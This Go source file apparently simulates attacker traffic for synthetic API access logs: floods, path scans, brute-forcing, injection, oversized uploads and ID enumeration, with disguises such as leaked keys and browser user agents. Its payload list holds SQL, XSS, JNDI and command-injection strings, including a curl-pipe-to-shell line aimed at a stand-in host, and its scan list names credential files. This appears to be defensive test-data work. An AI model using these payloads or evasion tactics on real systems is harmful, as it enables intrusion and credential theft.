package main

import (
	"math/rand/v2"
	"strconv"
	"strings"

	. "github.com/portcullis/portcullis/tools/internal/simlog"
)

// Lone attackers, one address each. Many are in disguise: an SDK's or a
// browser's user agent, a real customer's leaked key, a pace no faster
// than a busy developer's.

const (
	lFlood = iota
	lScan
	lBrute
	lInject
	lUpload
	lEnum
	nLone
)

func (d *day) loneAttackers(r *rand.Rand) {
	runs := [nLone]func(*rand.Rand){d.flood, d.scan, d.bruteforce, d.injection, d.upload, d.enumeration}
	for k, run := range runs {
		n := d.plat.lone[k]
		if Chance(r, 0.5) {
			n++
		}
		for range n {
			run(Sub(r))
		}
	}
}

// intruder registers a lone attacker: from hosting or Tor when it does
// not hide, from a home, a phone or a cloud like the customers' when it
// does. It reports whether it is in disguise.
func (d *day) intruder(r *rand.Rand, kind string) (*Client, bool) {
	if !Chance(r, d.plat.disguise) {
		if Chance(r, 0.6) {
			return d.hostile(server(d.log, r, vpsV4), kind, ""), false
		}
		return d.hostile(d.log.V4(r, darkV4), kind, ""), false
	}
	switch x := r.Float64(); {
	case x < 0.4:
		return d.hostile(household(d.log, r, 0.3), kind, ""), true
	case x < 0.55:
		return d.hostile(d.log.V4(r, mobileV4), kind, ""), true
	}
	return d.hostile(server(d.log, r, cloudV4), kind, ""), true
}

// spell draws when a lone attack starts and ends.
func (d *day) spell(r *rand.Rand, lo, hi float64) (int64, int64) {
	t := d.at(Uniform(r, 0.05, 0.6))
	return t, min(d.win, t+Sec(LogUniform(r, lo, hi)))
}

var toolAgents = []string{"Go-http-client/1.1", "python-requests/2.31.0", "Mozilla/5.0", "", "hey/0.0.1", "wrk/4.2.0", "Python-urllib/3.10", "okhttp/3.14.9"}

// flood is one address sending far more than anyone: an expensive
// endpoint hammered with a leaked secret key and an SDK's agent, tiles
// and geocodes with a leaked publishable key, or a tool on one URL.
func (d *day) flood(r *rand.Rand) {
	c, disguised := d.intruder(r, "flood")
	t, end := d.spell(r, 60, 600)
	var a *actor
	var next func() call
	rate := LogUniform(r, 20, 80)
	limit := NewBuckets(60, 120) // the gateway's limit per address on unkeyed calls
	switch {
	case disguised && Chance(r, 0.5):
		cu := Pick(r, d.plat.leakedSK)
		a = d.actor(r, c, sdk(d.plat.brand, Pick(r, languages), version(r)), cu.secret)
		limit = NewBuckets(cu.rate, cu.burst)
		rate = LogUniform(r, 3, 14)
		p := Pick(r, []int{pRoute, pMatrix, pIsochrone, pGeocode})
		next = func() call { return d.plat.product(r, p, Pick(r, d.plat.markets)) }
	case disguised:
		cu := Pick(r, d.plat.leakedPK)
		a = d.actor(r, c, browser(r), cu.pk)
		limit = NewBuckets(1e6, 1e6) // the key's own limit applies later
		rate = LogUniform(r, 6, 30)
		style := Pick(r, d.plat.styles)
		next = func() call {
			if Chance(r, 0.7) {
				z := 8 + r.IntN(9)
				n := 1 << z
				return d.plat.tile(r, style, z, r.IntN(n), r.IntN(n)).keyed(cu.pk)
			}
			return d.plat.product(r, pGeocode, Pick(r, d.plat.markets)).keyed(cu.pk)
		}
	default:
		a = d.actor(r, c, Pick(r, toolAgents), "")
		var k call
		switch Weighted(r, []float64{3, 2, 1, 2}) {
		case 0:
			cu := Pick(r, d.plat.leakedPK)
			a.key = cu.pk
			k = d.plat.geocode(r, address(r, cu.home), cu.home).keyed(cu.pk)
		case 1:
			k = statusPage(r)
		case 2:
			k = get(console("/signin"), 5200, 9)
		default:
			k = d.plat.route(r, Pick(r, d.plat.markets)).with(401)
		}
		next = func() call { return k }
	}
	for ; t < end; t += Sec(r.ExpFloat64() / rate) {
		k := next()
		if !limit.Take("k", t) {
			k = k.with(429)
		}
		a.do(t, k)
	}
}

// scanPaths are what scanners look for, with what the platform answers.
var scanPaths = []struct {
	path   string
	status int
}{
	{"/.env", 404}, {"/.git/config", 404}, {"/.git/HEAD", 404}, {"/wp-login.php", 404}, {"/wp-admin/setup-config.php", 404},
	{"/phpmyadmin/index.php", 404}, {"/server-status", 403}, {"/actuator/health", 404}, {"/actuator/env", 404}, {"/swagger-ui.html", 404},
	{"/v3/api-docs", 404}, {"/graphql", 404}, {"/console/.env", 404}, {"/config.json", 404}, {"/backup.zip", 404}, {"/admin", 404},
	{"/debug/pprof/", 404}, {"/.aws/credentials", 404}, {"/.DS_Store", 404}, {"/robots.txt", 200}, {"/.well-known/security.txt", 200},
	{"/internal/metrics", 404}, {"/console/api/admin/users", 403}, {"/cgi-bin/luci/;stok=/locale", 404}, {"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404},
	{"/solr/admin/info/system?wt=json", 404}, {"/api/v1/pods", 404}, {"/console/api/accounts", 401}, {"/billing/webhooks/payments", 405},
	{"/static/../../../../etc/passwd", 400}, {"/tiles/..%2f..%2f..%2fetc%2fpasswd", 400}, {"/docs/..;/console/api/me", 400}, {"/.vscode/sftp.json", 404},
	{"/console/assets/.map", 404}, {"/.npmrc", 404}, {"/telescope/requests", 404}, {"/_ignition/health-check", 404}, {"/api/.env", 404},
}

var scannerAgents = []string{"Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))", "Mozilla/5.0 zgrab/0.x",
	"Fuzz Faster U Fool v2.1.0-dev", "gobuster/3.6", "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0", "feroxbuster/2.10.1"}

// scan probes for files and endpoints that should not be there, and for
// the API's unpublished versions and internals.
func (d *day) scan(r *rand.Rand) {
	c, disguised := d.intruder(r, "scan")
	t, end := d.spell(r, 40, 400)
	a := d.actor(r, c, Pick(r, scannerAgents), "")
	pace := LogUniform(r, 0.08, 0.5)
	if disguised {
		t, end = d.spell(r, 300, 1500)
		a.ua = browser(r)
		pace = LogUniform(r, 3, 25)
	}
	v := d.plat.ver
	api := []struct {
		path   string
		status int
	}{
		{"/v0/geocode?q=test", 404}, {"/v4/geocode?q=test", 404}, {"/" + v + "/admin/accounts", 401}, {"/" + v + "/internal/flags", 404},
		{"/" + v + "/openapi.json", 200}, {"/" + v + "/batch/jobs", 400}, {"/" + v + "/keys", 401}, {"/" + v + "/debug/vars", 404},
	}
	prefixes := []string{"", "/console", "/docs", "/" + v, "/tiles"}
	first := true
	for t < end {
		if disguised && !first && Chance(r, 0.3) {
			a.cover(t, get("/docs/"+Pick(r, docPages), LogNormal(r, 38000, 0.4), LogNormal(r, 15, 0.6)))
			t += gap(r, pace, 0.6)
			continue
		}
		p := Pick(r, scanPaths)
		if Chance(r, 0.25) {
			p = Pick(r, api)
		} else if Chance(r, 0.3) && !strings.HasPrefix(p.path, "/console") {
			p.path = Pick(r, prefixes) + p.path
		}
		k := get(p.path, 0, 0).with(p.status)
		first = false
		if k.status == 200 {
			k.resp, k.ms = int64(LogNormal(r, 900, 0.6)), LogNormal(r, 4, 0.5)
		}
		a.do(t, k)
		t += gap(r, pace, 0.7)
	}
}

// bruteforce guesses one secret: a dashboard password, the second factor
// of a stolen password, the tail of an API key, a password reset code.
func (d *day) bruteforce(r *rand.Rand) {
	c, disguised := d.intruder(r, "bruteforce")
	t, end := d.spell(r, 90, 1500)
	ua := Pick(r, []string{"python-requests/2.31.0", "Mozilla/5.0", "hydra", "Go-http-client/1.1"})
	if disguised {
		ua = browser(r)
	}
	a := d.actor(r, c, ua, "")
	pace := LogUniform(r, 0.5, 4)
	if disguised && Chance(r, 0.6) {
		pace = LogUniform(r, 10, 60)
	}
	fails, locked := 0, int64(-1)
	login := func(t int64, path string, body int64) {
		k := call{method: "POST", path: path, body: body, status: 401}
		if fails++; fails > 10 && locked < 0 {
			locked = t
		}
		if locked >= 0 && t < locked+Sec(900) {
			k.status = 429
		}
		a.do(t, k)
	}
	switch Weighted(r, []float64{4, 2, 3, 1}) {
	case 0: // a password of one account
		a.cover(t-gap(r, 3, 0.5), get(console("/signin"), LogNormal(r, 5200, 0.1), LogNormal(r, 9, 0.5)))
		for ; t < end; t += gap(r, pace, 0.5) {
			login(t, console("/api/session"), int64(80+r.IntN(40)))
		}
	case 1: // the second factor, after a password that worked
		a.do(t, call{method: "POST", path: console("/api/session"), body: 96, resp: 410, ms: LogNormal(r, 140, 0.3)})
		for t += gap(r, 2, 0.5); t < end; t += gap(r, pace, 0.5) {
			login(t, console("/api/session/mfa"), 40)
		}
	case 2: // the last characters of a secret key seen half-masked
		if disguised {
			a.ua = sdk(d.plat.brand, Pick(r, languages), version(r))
		}
		known := Pick(r, append(append([]*customer{}, d.plat.big...), d.plat.mid...)).secret[:28]
		for ; t < end; t += gap(r, pace, 0.5) {
			a.key = known + token(r, 4)
			a.do(t, get(d.plat.api("/account/limits"), 0, 0).with(401))
		}
	default: // the six-digit code of a password reset
		for ; t < end; t += gap(r, pace, 0.5) {
			a.do(t, get(console("/reset?code="+strconv.Itoa(100000+r.IntN(900000))), 0, 0).with(404))
		}
	}
}

// payloads are what injection tools put into query values.
var payloads = []string{
	"' OR '1'='1", "1' AND SLEEP(5)-- -", "\" UNION SELECT username,password FROM users--", "1;DROP TABLE accounts", "' AND extractvalue(1,concat(0x7e,version()))-- ",
	"<script>alert(document.domain)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)//", "{{7*7}}", "${7*7}", "<%= 7*7 %>",
	"${jndi:ldap://198.51.100.23:1389/a}", "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "; cat /etc/passwd", "| id", "$(curl 203.0.113.7/x.sh|sh)",
	"{\"$gt\":\"\"}", "*)(uid=*))(|(uid=*", "' || pg_sleep(10)--", "1 ORDER BY 20--", "%00", "\r\nSet-Cookie: session=x", "http://169.254.169.254/latest/meta-data/",
}

// injection puts payloads into the query values the platform reads: the
// address to geocode, the search text, the usage report's dates, a batch
// job's fields, the docs search. A disguised one keys its calls, paces
// them, and hides them among ordinary geocodes.
func (d *day) injection(r *rand.Rand) {
	c, disguised := d.intruder(r, "injection")
	t, end := d.spell(r, 60, 1200)
	a := d.actor(r, c, Pick(r, []string{"sqlmap/1.8.3#stable (https://sqlmap.org)", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 Safari/537.36", "python-requests/2.31.0"}), "")
	pace := LogUniform(r, 0.3, 3)
	victim := Pick(r, d.plat.leakedSK)
	if disguised {
		a.ua = sdk(d.plat.brand, Pick(r, languages), version(r))
		a.key = victim.secret
		pace = LogUniform(r, 4, 40)
	}
	raw := strings.NewReplacer(" ", "+", "&", "%26", "#", "%23", "\r", "%0D", "\n", "%0A")
	pRaw, pOnce := Uniform(r, 0, 0.5), Uniform(r, 0.5, 1)
	user := "usr_" + Hex(r, 12)
	acct := "acct_" + strconv.Itoa(d.plat.nextAcct+r.IntN(5000))
	for first := true; t < end; t += gap(r, pace, 0.7) {
		if disguised && !first && Chance(r, 0.4) {
			a.cover(t, d.plat.product(r, pGeocode, victim.home))
			continue
		}
		first = false
		v := EncodeQuery(r, Pick(r, payloads), raw, pRaw, pOnce)
		var k call
		switch r.IntN(6) {
		case 0:
			k = get(d.plat.api("/geocode?q="+v), LogNormal(r, 160, 0.2), LogNormal(r, 20, 0.6))
		case 1:
			k = get(d.plat.api("/places/search?text="+v+"&near="+latlon(victim.home.lat, victim.home.lon)), LogNormal(r, 160, 0.2), LogNormal(r, 30, 0.6))
		case 2:
			k = get(d.plat.api("/autocomplete?text="+v), LogNormal(r, 160, 0.2), LogNormal(r, 10, 0.6))
		case 3:
			a.user = user
			k = get(console("/api/accounts/"+acct+"/usage?from="+v+"&to="+d.log.Start().Format("2006-01-02")), 0, 0).with(400)
		case 4:
			k = get(d.plat.api("/batch/jobs/"+jobID(d.plat.jobBase+r.IntN(900_000))+"?fields="+v), 0, 0).with(404)
		default:
			k = get("/docs/api/search?q="+v, LogNormal(r, 400, 0.3), LogNormal(r, 25, 0.5))
		}
		switch x := r.Float64(); {
		case x < 0.2:
			k = k.with(403) // the firewall knew this one
		case x < 0.35:
			k = k.with(400)
		case x < 0.37:
			k = k.with(500)
		}
		a.do(t, k)
		a.user = ""
	}
}

// upload sends bodies of 5-60 MB where bodies are a few kilobytes: the
// matrix, elevation and telemetry endpoints, webhook settings, the avatar,
// the payment webhook; or batch files past the batch endpoint's size.
func (d *day) upload(r *rand.Rand) {
	c, disguised := d.intruder(r, "upload")
	t, end := d.spell(r, 60, 1500)
	a := d.actor(r, c, Pick(r, toolAgents[:3]), "")
	cu := Pick(r, d.plat.leakedSK)
	if disguised {
		a.ua = sdk(d.plat.brand, Pick(r, languages), version(r))
		a.key = cu.secret
	}
	type target struct {
		method, path string
		limit        float64 // bytes the endpoint takes before it answers 413
		ok           int     // its answer to a body under the limit
	}
	targets := []target{
		{"POST", d.plat.api("/matrix?profile=driving"), 10e6, 400},
		{"POST", d.plat.api("/elevation"), 8e6, 400},
		{"POST", d.plat.api("/sdk/events"), 1e6, 202},
		{"POST", cu.consolePath("/webhooks"), 1e6, 400},
		{"PUT", console("/api/me/avatar"), 5e6, 415},
		{"POST", "/billing/webhooks/payments", 2e6, 400},
		{"POST", d.plat.api("/batch/geocode"), 50e6, 202},
	}
	tg := Pick(r, targets)
	if Chance(r, 0.3) {
		a.user = "usr_" + Hex(r, 12)
	}
	for ; t < end; t += gap(r, LogUniform(r, 3, 60), 0.5) {
		size := LogUniform(r, 5e6, 60e6)
		if tg.limit == 50e6 {
			size = Uniform(r, 35e6, 60e6)
		}
		k := call{method: tg.method, path: tg.path, body: int64(size), resp: 300, status: tg.ok, ms: size / LogUniform(r, 5e6, 50e6) * 1000}
		if size > tg.limit {
			k.status = 413
		}
		a.do(t, k)
		if r.IntN(4) == 0 {
			tg = Pick(r, targets)
		}
	}
}

// enumeration walks ids in sequence: other accounts' keys from a free
// account's session, key ids, the place database with a leaked
// publishable key, other customers' batch results, users by reset form.
func (d *day) enumeration(r *rand.Rand) {
	c, disguised := d.intruder(r, "enumeration")
	t, end := d.spell(r, 60, 1500)
	a := d.actor(r, c, Pick(r, toolAgents[:3]), "")
	pace := LogUniform(r, 0.08, 0.6)
	if disguised {
		pace = LogUniform(r, 1, 6)
	}
	own := d.plat.newCustomer(d.log, r, tierSmall)
	var next func(i int) call
	switch Weighted(r, []float64{3, 1, 3, 2, 1}) {
	case 0:
		a.user = "usr_" + Hex(r, 12)
		if disguised {
			a.ua = browser(r)
		}
		n := Pick(r, d.plat.mid).num - r.IntN(2000)
		next = func(i int) call {
			k := get(console("/api/accounts/acct_"+strconv.Itoa(n+i)+"/keys"), 0, 0).with(404)
			if r.IntN(150) == 0 {
				k.status = 403
			}
			return k
		}
	case 1:
		a.user = "usr_" + Hex(r, 12)
		n := 100000 + r.IntN(800000)
		next = func(i int) call { return get(own.consolePath("/keys/key_"+strconv.Itoa(n+i)), 0, 0).with(404) }
	case 2:
		cu := Pick(r, d.plat.leakedPK)
		if disguised {
			a.ua = mobileSDK(r, d.plat.brand, cu.appID, appVersion(r), Chance(r, 0.5), cu.mobileVer())
		}
		n := r.IntN(800_000_000)
		next = func(i int) call {
			k := get(d.plat.api("/places/"+placeID(n+i)), LogNormal(r, 2200, 0.4), LogNormal(r, 9, 0.6)).keyed(cu.pk)
			if Chance(r, 0.3) {
				k = k.with(404)
			}
			return k
		}
	case 3:
		a.key = own.secret
		if disguised {
			a.ua = sdk(d.plat.brand, Pick(r, languages), version(r))
		}
		n := d.plat.jobBase + int(d.seed)*500_000 + r.IntN(400_000)
		next = func(i int) call {
			k := get(d.plat.api("/batch/jobs/"+jobID(n+i)+"/results"), 0, 0).with(404)
			if Chance(r, 0.05) {
				k = k.with(403)
			} else if Chance(r, 0.005) {
				k = get(k.path, LogNormal(r, 4e6, 1), LogNormal(r, 900, 0.6))
			}
			return k
		}
	default:
		next = func(i int) call {
			k := call{method: "POST", path: console("/api/password/reset"), body: int64(60 + r.IntN(30)), status: 404}
			if Chance(r, 0.08) {
				k = call{method: "POST", path: k.path, body: k.body, resp: 40, ms: LogNormal(r, 90, 0.4), status: 202}
			}
			return k
		}
	}
	for i := 0; t < end; i++ {
		a.do(t, next(i))
		t += gap(r, pace, 0.5)
	}
}
